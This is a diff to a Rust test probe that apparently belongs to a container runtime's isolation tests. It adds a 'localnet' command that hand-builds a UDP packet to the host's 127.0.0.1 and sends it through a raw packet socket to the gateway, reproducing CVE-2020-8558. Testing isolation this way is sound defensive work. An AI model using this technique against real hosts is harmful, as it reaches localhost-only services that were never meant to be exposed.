@@ -7,6 +7,9 @@
 //! - `probe watch SECONDS`: look for processes of the runtime joining this
 //!   container (`mini-docker exec`, before it has become the command) and try to
 //!   read their environment and descriptors, as a process that may ptrace them could.
+//! - `probe localnet PORT DONE`: send a datagram to the host's 127.0.0.1:PORT the way
+//!   CVE-2020-8558 does (a packet built by hand, handed to the gateway's MAC), then
+//!   an ordinary one to the gateway's port DONE to say it was sent.
 
 use std::collections::BTreeSet;
 
@@ -141,13 +144,124 @@ fn watch(stop: &str) {
     );
 }
 
+/// The default gateway, from the routing table (`/proc/net/route`: hex, little-endian).
+fn gateway() -> std::net::Ipv4Addr {
+    let table = std::fs::read_to_string("/proc/net/route").expect("/proc/net/route");
+    let hex = table
+        .lines()
+        .map(|l| l.split_whitespace().collect::<Vec<_>>())
+        .find(|f| f.get(1) == Some(&"00000000"))
+        .and_then(|f| u32::from_str_radix(f[2], 16).ok())
+        .expect("a default route");
+    std::net::Ipv4Addr::from(hex.to_le_bytes())
+}
+
+/// The MAC address of `ip`, once the kernel has resolved it (`/proc/net/arp`).
+fn mac_of(ip: std::net::Ipv4Addr) -> Option<[u8; 6]> {
+    let table = std::fs::read_to_string("/proc/net/arp").ok()?;
+    let line = table
+        .lines()
+        .find(|l| l.split_whitespace().next() == Some(&ip.to_string()))?;
+    let text = line.split_whitespace().nth(3)?;
+    let bytes: Vec<u8> = text
+        .split(':')
+        .filter_map(|b| u8::from_str_radix(b, 16).ok())
+        .collect();
+    (bytes.len() == 6 && bytes != [0; 6]).then(|| bytes.try_into().ok())?
+}
+
+fn checksum(header: &[u8]) -> u16 {
+    let mut sum: u32 = header
+        .chunks(2)
+        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
+        .sum();
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    !(sum as u16)
+}
+
+fn localnet(port: u16, done: u16) {
+    use std::os::fd::AsRawFd;
+    let gw = gateway();
+    // An ordinary socket first: our own address, and the gateway's MAC resolved.
+    let udp = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp");
+    udp.connect((gw, done)).expect("connect");
+    let std::net::IpAddr::V4(me) = udp.local_addr().expect("address").ip() else {
+        panic!("no IPv4 address")
+    };
+    let mut mac = mac_of(gw);
+    for _ in 0..1000 {
+        if mac.is_some() {
+            break;
+        }
+        let _ = std::net::UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(b"", (gw, 9)));
+        std::thread::sleep(std::time::Duration::from_millis(10));
+        mac = mac_of(gw);
+    }
+    let mac = mac.expect("the gateway's MAC address");
+    // IPv4 + UDP, to 127.0.0.1:PORT, from our own address.
+    let payload = b"pwned";
+    let mut packet = vec![0u8; 28];
+    packet[0] = 0x45; // IPv4, 20-byte header
+    packet[2..4].copy_from_slice(&(28 + payload.len() as u16).to_be_bytes());
+    packet[6] = 0x40; // don't fragment
+    packet[8] = 64; // TTL
+    packet[9] = 17; // UDP
+    packet[12..16].copy_from_slice(&me.octets());
+    packet[16..20].copy_from_slice(&[127, 0, 0, 1]);
+    let sum = checksum(&packet[..20]);
+    packet[10..12].copy_from_slice(&sum.to_be_bytes());
+    packet[20..22].copy_from_slice(&40000u16.to_be_bytes());
+    packet[22..24].copy_from_slice(&port.to_be_bytes());
+    packet[24..26].copy_from_slice(&(8 + payload.len() as u16).to_be_bytes());
+    packet.extend_from_slice(payload); // UDP checksum 0: none, as IPv4 allows
+    // A packet socket (CAP_NET_RAW): the kernel adds the Ethernet header.
+    let eth_p_ip = (libc::ETH_P_IP as u16).to_be();
+    // SAFETY: plain socket(2); the descriptor is owned below.
+    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_DGRAM, i32::from(eth_p_ip)) };
+    assert!(
+        fd >= 0,
+        "packet socket: {}",
+        std::io::Error::last_os_error()
+    );
+    // SAFETY: a new descriptor of ours.
+    let socket = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
+    // SAFETY: a zeroed sockaddr_ll is valid; the fields are set below.
+    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
+    to.sll_family = libc::AF_PACKET as u16;
+    to.sll_protocol = eth_p_ip;
+    // SAFETY: a NUL-terminated name.
+    to.sll_ifindex = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) } as i32;
+    to.sll_halen = 6;
+    to.sll_addr[..6].copy_from_slice(&mac);
+    // SAFETY: the buffer and the address are live for the call, with their sizes.
+    let sent = unsafe {
+        libc::sendto(
+            socket.as_raw_fd(),
+            packet.as_ptr().cast(),
+            packet.len(),
+            0,
+            (&raw const to).cast(),
+            size_of::<libc::sockaddr_ll>() as u32,
+        )
+    };
+    assert!(sent >= 0, "sendto: {}", std::io::Error::last_os_error());
+    udp.send(b"done").expect("the done datagram");
+    println!("sent to 127.0.0.1:{port} through {gw}");
+}
+
 fn main() {
     let args: Vec<String> = std::env::args().skip(1).collect();
     match args.iter().map(String::as_str).collect::<Vec<_>>()[..] {
         ["syscalls"] => syscalls(),
         ["watch", stop] => watch(stop),
+        ["localnet", port, done] => match (port.parse(), done.parse()) {
+            (Ok(port), Ok(done)) => localnet(port, done),
+            _ => std::process::exit(2),
+        },
         _ => {
-            eprintln!("usage: probe syscalls | probe watch SECONDS");
+            eprintln!("usage: probe syscalls | probe watch SECONDS | probe localnet PORT DONE");
             std::process::exit(2);
         }
     }
